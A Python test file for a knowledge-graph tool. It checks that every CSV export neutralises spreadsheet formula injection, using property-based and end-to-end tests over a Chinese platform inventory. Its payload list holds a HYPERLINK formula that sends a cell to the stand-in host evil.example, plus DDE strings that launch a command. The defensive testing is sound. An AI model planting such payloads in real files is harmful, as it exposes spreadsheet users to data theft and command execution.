"""CSV injection (issue 7): text that a spreadsheet would run as a formula (= + - @, tab, CR first) is
never written back unescaped, in any CSV the product writes: `innokg export`, the console's
`:export csv`, and `innokg duplicates --format csv` — property-based over arbitrary text, and end to
end from an inventory whose names, hosts and fields are injection strings."""

from __future__ import annotations

import csv
import io
from pathlib import Path

from hypothesis import given, settings
from hypothesis import strategies as st

from app.cli.console import export_csv
from app.services import duplicates as dup
from app.services.export import export, write_csv
from app.store.protocol import GraphStore
from ingest.pipeline.run import ingest_paths

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
PAYLOADS = (
    '=HYPERLINK("http://evil.example/?d="&A1,"详情")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"))))


def _assert_no_formula(rows: list[list[str]], numeric_ok: bool = True) -> None:
    for row in rows:
        for c in row:
            if numeric_ok:
                try:
                    float(c)
                    continue  # numbers are written as numbers (-3 is not a formula)
                except ValueError:
                    pass
            assert not c.startswith(FORMULA_START), (c, row)


@settings(max_examples=150, derandomize=True, deadline=None)
@given(
    st.lists(
        st.dictionaries(
            st.sampled_from(["name", "host", "field", "count"]),
            st.one_of(st.text(max_size=30), st.sampled_from(PAYLOADS), st.integers(), st.floats(allow_nan=False)),
        ),
        max_size=6,
    ),
    st.sampled_from([":export", "export"]),
)
def test_write_csv_never_emits_a_formula(rows: list[dict[str, object]], via: str) -> None:
    buf = Path("/dev/shm" if Path("/dev/shm").is_dir() else "/tmp") / f"innokg_hardening_{id(rows)}.csv"
    try:
        (export_csv if via == ":export" else write_csv)(rows, buf)  # type: ignore[arg-type]
        _assert_no_formula(_cells(buf.read_text(encoding="utf-8-sig")))
    finally:
        buf.unlink(missing_ok=True)


def test_column_names_are_neutralised_too(tmp_path: Path) -> None:
    # Console rows carry whatever column names the analyst's (or a shared favourite's) Cypher returned.
    path = tmp_path / "cols.csv"
    write_csv([{PAYLOADS[0]: "x", "ok": "y"}], path)
    _assert_no_formula(_cells(path.read_text(encoding="utf-8-sig")))


def _injection_inventory(tmp_path: Path) -> list[Path]:
    header = "序号,平台名称,依托单位,共建单位,所在地市,批准年份,研究方向"
    files = []
    for n, (host, co) in enumerate(((PAYLOADS[0], PAYLOADS[1]), (PAYLOADS[2], PAYLOADS[3]))):
        path = tmp_path / f"辽宁省_平台名单_inj{n}.csv"
        with path.open("w", encoding="utf-8", newline="") as fh:
            w = csv.writer(fh)
            w.writerow(header.split(","))
            w.writerow([1, "辽宁省先进材料重点实验室", host, co, "沈阳市", 2015, PAYLOADS[4]])
            w.writerow([2, "辽宁省先进材料重点实验室", host, co, "沈阳市", 2016, "=1+1先进材料制备"])
            w.writerow([3, "沈阳市先进材料重点实验室", "东北大学", co, "沈阳市", 2016, "先进材料制备"])
        files.append(path)
    return files


def test_injection_strings_from_an_inventory_are_neutralised_in_every_csv(store: GraphStore, tmp_path: Path) -> None:
    report = ingest_paths(store, _injection_inventory(tmp_path), workers=0, bulk=False)
    assert not report.failed, [f.error for f in report.failed]
    stored = {
        str(v)
        for r in store.read("MATCH (n) RETURN n.name AS v UNION MATCH (n) RETURN n.field AS v")
        for v in r.values()
    }
    assert any(v.startswith("=") for v in stored if v), (
        "the payload must reach the store for this test to mean anything"
    )
    out = tmp_path / "graph.csv"
    export(store, out, "csv")
    for path in (out, out.with_name("graph_edges.csv")):
        _assert_no_formula(_cells(path.read_text(encoding="utf-8-sig")))
    report_ = dup.detect(store)
    assert report_.pairs, "the two files plant duplicate pairs: the CSV below must have rows"
    _assert_no_formula(_cells(dup.render(report_, "csv")))
